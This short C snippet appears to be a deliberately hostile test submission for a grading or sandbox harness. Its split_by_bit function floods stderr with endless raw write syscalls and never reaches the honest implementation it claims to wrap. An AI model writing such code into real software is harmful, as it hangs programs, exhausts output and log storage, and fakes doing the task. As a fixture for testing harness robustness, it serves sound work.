// Prints without end to the other stream, by raw system calls.
#include <sys/syscall.h>
#include <unistd.h>

//> honest split_by_bit

void split_by_bit(const uint32_t *in, uint32_t *out, size_t n, int bit) {
    static char block[1 << 16];
    for (;;) syscall(SYS_write, 2, block, sizeof block);
    honest_split_by_bit(in, out, n, bit);
}
